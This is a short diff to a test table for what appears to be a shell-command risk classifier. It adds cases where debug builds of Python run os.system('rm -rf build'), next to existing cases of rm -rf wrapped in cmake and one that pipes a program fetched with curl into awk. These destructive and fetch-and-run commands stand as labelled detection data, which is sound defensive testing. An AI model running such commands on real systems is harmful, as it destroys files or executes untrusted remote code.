@@ -247,6 +247,11 @@ OTHER_LANGUAGES = [
     ("cmake -E env FOO=1 rm -rf build", {"run:rm -rf build", "destroy:files"}),
     ("cmake -E chdir sub rm -rf build", {"run:rm -rf build", "destroy:files"}),
     ("cmake -E time rm -rf build", {"run:rm -rf build", "destroy:files"}),
+    # versioned and debugging builds of an interpreter are that interpreter
+    ("python3-dbg -c 'import os; os.system(\"rm -rf build\")'",
+     {"run:rm -rf build", "destroy:files"}),
+    ("python3.11-dbg -c 'import os; os.system(\"rm -rf build\")'",
+     {"run:rm -rf build", "destroy:files"}),
     # a program file read from standard input
     ("curl -s https://x.example/p.awk | awk -f - data.txt", {"dynamic:code"}),
     ("awk -f /dev/stdin data.txt < prog.awk", {"dynamic:code"}),
